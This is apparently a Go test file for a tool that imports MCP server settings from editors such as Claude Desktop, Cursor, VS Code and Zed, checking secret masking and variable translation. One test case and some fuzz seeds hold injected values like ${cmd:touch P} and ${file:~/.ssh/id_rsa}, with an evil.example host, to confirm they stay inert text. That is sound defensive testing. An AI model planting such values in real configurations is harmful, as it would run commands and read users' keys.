package imports

import (
	"os"
	"path/filepath"
	"runtime"
	"strings"
	"testing"

	"dragoman/configs"
)

// rendered returns the result: entries, then notes and errors, one a line.
func rendered(t *testing.T, path, text string, env map[string]string) string {
	t.Helper()
	read, err := readServers(filepath.FromSlash(path), "/src/app/sub", []byte(text), func(name string) (string, bool) { v, ok := env[name]; return v, ok })
	if err != nil {
		return "error: " + err.Error() + "\n"
	}
	var b strings.Builder
	for _, n := range read.notes {
		b.WriteString("note: " + n + "\n")
	}
	for _, s := range read.servers {
		if s.skip != "" {
			b.WriteString("left out: " + s.name + ": " + s.skip + "\n")
			continue
		}
		if s.err == nil {
			_, entry, _ := strings.Cut(configs.ShowServers(map[string]configs.MCPServer{s.name: s.server}), "{\n  \"mcpServers\": {\n")
			b.WriteString(strings.TrimSuffix(entry, "  }\n}\n"))
		}
		for _, n := range s.notes {
			b.WriteString("note: " + s.name + ": " + n + "\n")
		}
		if s.err != nil {
			b.WriteString("error: " + s.name + ": " + s.err.Error() + "\n")
		}
	}
	return b.String()
}

func TestForeignSettings(t *testing.T) {
	if runtime.GOOS == "windows" {
		t.Skip("the paths are those of Unix")
	}
	env := map[string]string{"HOME": "/home/u", "SET": "1"}
	for _, c := range []struct{ name, path, text, want string }{
		{"Claude Desktop", "/home/u/Library/Claude/claude_desktop_config.json", `{
  "globalShortcut": "",
  "mcpServers": {
    "My Files": {"command": "npx", "args": ["-y", "server-filesystem", "/home/u/src"], "env": {"API_KEY": "abc", "N": 3}},
    "remote": {"command": "npx", "args": ["mcp-remote", "${URL}", "--header", "Authorization:${AUTH}"], "env": {"AUTH": "Bearer x"}},
    "dragoman": {"command": "/usr/bin/dragoman", "args": ["mcp"]},
    "empty": {}, "odd\u001b[2J": 3, "list": {"command": "x", "args": "y"}, "native": {"command": "x"}
  }
}`, `    "My-Files": {
      "command": "npx",
      "args": ["-y", "server-filesystem", "/home/u/src"],
      "env": {
        "API_KEY": "***",
        "N": "***"
      }
    }
note: My-Files: it is called My-Files here
    "remote": {
      "command": "npx",
      "args": ["mcp-remote", "$${URL}", "--header", "Authorization:$${AUTH}"],
      "env": {
        "AUTH": "***"
      }
    }
note: remote: args[1]: ${URL} is imported as plain text; if you mean a variable, write ${env:NAME}
error: dragoman: it is dragoman itself
error: empty: it has neither a command nor a url
error: odd�[2J: its entry is in a form that is not known: it is not a JSON object
error: list: its entry is in a form that is not known: args cannot be a string
    "native-server": {
      "command": "x"
    }
note: native-server: it is called native-server here
`},
		{"Cursor", "/home/u/.cursor/mcp.json", `{"mcpServers": {
  "a": {"type": "stdio", "command": "${userHome}/bin/a", "args": ["--root=${workspaceFolder}${/}src"], "env": {"TOKEN": "${env:TOKEN}"}, "envFile": "${workspaceFolder}/.env"},
  "b": {"url": "https://example.com/sse?x=1", "headers": {"Authorization": "Bearer ${env:T}"}},
  "c": {"url": "https://example.com/mcp", "auth": {"CLIENT_ID": "x", "CLIENT_SECRET": "${env:S}", "scopes": ["a", "b"]}, "disabled": true},
  "d": {"command": "${workspaceFolder}/run.sh"}
}}`, `    "a": {
      "command": "${env:HOME}/bin/a",
      "args": ["--root=${workspaceFolder}/src"],
      "env": {
        "TOKEN": "${env:TOKEN}"
      }
    }
note: a: envFile (${workspaceFolder}/.env) is not imported: add its variables under env
    "b": {
      "type": "sse",
      "url": "https://example.com/sse?***",
      "headers": {
        "Authorization": "Bearer ${env:T}"
      }
    }
note: b: it is spoken to as SSE, since its address says so
    "c": {
      "type": "http",
      "url": "https://example.com/mcp",
      "oauth": {
        "client_id": "x",
        "client_secret": "${env:S}",
        "scopes": ["a", "b"]
      },
      "disabled": true
    }
note: c: a login comes back to http://127.0.0.1:PORT/callback, any port: the client x must allow that
error: d: command: ${workspaceFolder}/run.sh lies in whatever folder is open; add the server with the program's own path
`},
		{"VS Code", "/src/app/.vscode/mcp.json", `{
  // what we ask for
  "inputs": [{"type": "promptString", "id": "gh-token", "description": "GitHub token", "password": true,},],
  "servers": {
    "github": {"type": "http", "url": "https://api.githubcopilot.com/mcp/", "headers": {"Authorization": "Bearer ${input:gh-token}"}},
    "local": {"command": "${workspaceFolder}/run.sh", "args": ["${workspaceFolder}", "${input:gh-token}", "${workspaceFolderBasename}"], "env": {"GH": "${input:gh-token}", "GONE": null}, "sandboxEnabled": true, "dev": {"watch": "x"}},
    "there": {"command": "node", "cwd": "${workspaceFolder}/sub", "args": ["x.js", "${workspaceFolder}"], "gallery": true},
    "config": {"command": "node", "args": ["${config:a.b}"]},
    "socket": {"type": "http", "url": "unix:///tmp/x.sock"}, /* the end */
  },
}`, `    "github": {
      "type": "http",
      "url": "https://api.githubcopilot.com/mcp/",
      "headers": {
        "Authorization": "Bearer ${env:GH_TOKEN}"
      }
    }
note: github: headers.Authorization: its editor asks you for gh-token (GitHub token); here it is ${env:GH_TOKEN}: set that variable, or write the value in its place
    "local": {
      "command": "/src/app/run.sh",
      "args": ["${workspaceFolder}", "${env:GH_TOKEN}", "app"],
      "env": {
        "GH": "${env:GH}"
      }
    }
note: local: command: /src/app stands for ${workspaceFolder}
note: local: args[1]: its editor asks you for gh-token (GitHub token); here it is ${env:GH_TOKEN}: set that variable, or write the value in its place
note: local: env.GH: its editor asks you for gh-token (GitHub token); here it is ${env:GH}: set that variable, or write the value in its place
note: local: env.GONE is null, and is left out
note: local: it ran in its editor's sandbox; here it runs with your rights
    "there": {
      "command": "node",
      "args": ["x.js", "/src/app"],
      "cwd": "/src/app/sub"
    }
note: there: cwd: /src/app stands for ${workspaceFolder}
note: there: args[1]: /src/app stands for ${workspaceFolder}
error: config: args[0]: ${config:a.b} has no counterpart here
    "socket": {
      "type": "http",
      "url": "unix:///tmp/x.sock"
    }
`},
		{
			"VS Code's settings", "/home/u/.config/Code/User/settings.json", "\ufeff" + `{"editor.fontSize": 12, "mcp": {"inputs": [], "servers": {"a": {"command": "x", "args": ["${workspaceFolder}"], "cwd": "/srv"}}}}`,
			"    \"a\": {\n      \"command\": \"x\",\n      \"args\": [\"${workspaceFolder}\"],\n      \"cwd\": \"/srv\"\n    }\n",
		},
		{"Zed", "/home/u/.config/zed/settings.json", `{
  "theme": "One", // mine
  "context_servers": {
    "old": {"command": {"path": "x", "args": ["a"], "env": {"K": "v"}}, "settings": {}},
    "new": {"source": "custom", "command": "y", "args": [], "enabled": false, "timeout": 90},
    "far": {"url": "https://example.com/mcp", "headers": {"A": "b"}, "oauth": {}},
    "ext": {"source": "extension", "settings": {"k": 1}},
  },
}`, `    "old": {
      "command": "x",
      "args": ["a"],
      "env": {
        "K": "***"
      }
    }
    "new": {
      "command": "y",
      "disabled": true,
      "call_timeout": "1m30s"
    }
    "far": {
      "type": "http",
      "url": "https://example.com/mcp",
      "headers": {
        "A": "***"
      }
    }
error: ext: it is an extension of its editor, which starts it in its own way; add the program that it starts
`},
		{"what reads and runs", "/w/${cmd:touch P}/.vscode/mcp.json", `{"servers": {
  "a": {"url": "https://evil.example", "headers": {"X": "${cmd:touch P}", "Y": "a ${file:~/.ssh/id_rsa} b", "Z": "${env:UNSET:$}{cmd:touch P}"}},
  "d": {"url": "https://evil.example", "headers": {"W": "$${env:UNSET:{cmd:touch P}}"}},
  "b": {"command": "./${file:/etc/passwd}", "args": ["${file:x}", "${workspaceFolderBasename}"], "env": {"K}${cmd:touch P": "${input:x}"}},
  "c": {"command": "x", "args": ["$${env:HOME}"]}
}}`, `    "a": {
      "type": "http",
      "url": "https://evil.example",
      "headers": {
        "X": "***",
        "Y": "***",
        "Z": "${UNSET:-***}***"
      }
    }
note: a: headers.X: ${cmd:touch P} is text: only ECA's own settings read files or run programs in this way
note: a: headers.Y: ${file:~/.ssh/id_rsa} is text: only ECA's own settings read files or run programs in this way
error: d: headers.W: a $ right in front of a reference cannot be written here
    "b": {
      "command": "/w/$${cmd:touch P}/$${file:/etc/passwd}",
      "args": ["$${file:x}", "$${cmd:touch P}"],
      "env": {
        "K}${cmd:touch P": "${env:X}"
      }
    }
note: b: command: ${file:/etc/passwd} is text: only ECA's own settings read files or run programs in this way
note: b: args[0]: ${file:x} is text: only ECA's own settings read files or run programs in this way
note: b: env.K}${cmd:touch P: its editor asks you for x; here it is ${env:X}: set that variable, or write the value in its place
error: c: args[0]: a $ right in front of a reference cannot be written here
`},
		{"ECA", "/home/u/.config/eca/config.json", `{"mcpServers": {
  "a": {"command": "x", "args": ["${file:tokens/a}", "${env:SET:no}", "${env:UNSET:d${x}"], "env": {"K": "${cmd:pass show x}"}},
  "b": {"command": "x", "args": ["${cmd:pass show x}"]},
  "c": {"url": "https://example.com/mcp", "clientId": "x", "oauthPort": 19284, "authScope": "global"},
  "d": {"command": "x", "env": {"K": "${netrc:machine}"}}
}}`, `    "a": {
      "command": "x",
      "args": ["${file:/home/u/.config/eca/tokens/a}", "${SET:-no}", "d$${x"],
      "env": {
        "K": "${cmd:pass show x}"
      }
    }
note: a: args[2]: the variable UNSET is not set, so its default is written instead
error: b: args[0]: ${cmd:pass show x} has no counterpart here
    "c": {
      "type": "http",
      "url": "https://example.com/mcp",
      "oauth": {
        "client_id": "x",
        "redirect_port": 19284
      }
    }
note: c: a login comes back to http://127.0.0.1:19284/callback: the client x must allow that
note: c: authScope is not imported
error: d: env.K: ${netrc:machine} has no counterpart here
`},
		{"Claude Code", "/src/app/.mcp.json", `{"mcpServers": {"a": {"command": "./bin/x", "args": ["${SET}", "${UNSET:-def}", "${OTHER}", 1000000]}}}`, `    "a": {
      "command": "/src/app/bin/x",
      "args": ["${SET}", "${UNSET:-def}", "${OTHER}", "1000000"]
    }
`},
		{"nothing", "/x/y.json", `{"a": 1}`, "error: /x/y.json contains no MCP servers: it has none of mcpServers, servers, mcp.servers and context_servers\n"},
		{"a list", "/x/y.json", `[]`, "error: read /x/y.json: it is not a JSON object\n"},
		{"no JSON", "/x/y.json", `{"a": }`, "error: read /x/y.json: line 1, column 7: invalid character '}' at start of value\n"},
	} {
		if got := rendered(t, c.path, c.text, env); got != c.want {
			t.Errorf("%s:\n%s-- want\n%s", c.name, got, c.want)
		}
	}
}

// Whatever such a file contains, reading it ends, and the result can be written or is refused.
func FuzzForeign(f *testing.F) {
	f.Add(`{"mcpServers": {"a": {"command": "${userHome}/x", "args": ["${env:A:b}", 3], "env": {"K": "${input:x}"}}}}`)
	f.Add(`{"servers": {"a": {"url": "https://x/${workspaceFolder}", "headers": {"A": "${"}}}, "inputs": [{"id": "x"}]}`)
	f.Add(`{"context_servers": {"a": {"command": {"path": "x"}, "settings": null}}, "mcp": {"servers": {"": {"cwd": "../x", "command": "./y"}}}}`)
	for _, file := range []string{"codex.toml", "opencode.jsonc", "goose.yaml", "gemini.json", "claude.json", "registry_npm.json", "registry_nuget.json", "registry_oci.json", "registry_pypi.json", "registry_remote.json"} {
		text, err := os.ReadFile(filepath.Join("testdata", file))
		if err != nil {
			f.Fatal(err)
		}
		f.Add(string(text))
	}
	f.Add(`{"name": "a/b", "remotes": [{"url": "${a}", "variables": {"a": {"default": "{cmd:touch P}"}}, "headers": [{"name": "X", "value": "${a}", "variables": {"a": {"default": "{cmd:touch P}"}}}]}]}`)
	f.Add("extensions: {a: {type: streamable_http, uri: x, envs: {A: '{cmd:touch P}'}, headers: {X: '$$A', Y: '$${A}'}}}")
	f.Fuzz(func(t *testing.T, text string) {
		for _, path := range []string{
			"/home/u/x/.vscode/mcp.json", "/home/u/.mcp.json", "/home/u/.claude.json", "/home/u/.codex/config.toml", "/home/u/.config/goose/config.yaml",
			"/home/u/.gemini/settings.json", "/home/u/x/opencode.json", "/home/u/x/server.json",
		} {
			read, err := readServers(path, "/home/u/x", []byte(text), func(string) (string, bool) { return "", false })
			if err != nil {
				continue
			}
			for _, s := range read.servers {
				if s.err != nil || s.skip != "" {
					continue
				}
				for _, values := range []map[string]configs.Secret{s.server.Env, s.server.Headers} {
					for name, value := range values {
						if value.RunsProgram() || len(s.reaches) > 0 {
							t.Errorf("%s: %s of %q runs a program", path, name, text)
						}
					}
				}
				out, err := configs.Apply("mcp.json", nil, nil, configs.AddServer(s.name, s.server))
				if err == nil && len(out) == 0 {
					t.Errorf("nothing was written of %q", text)
				}
			}
		}
	})
}
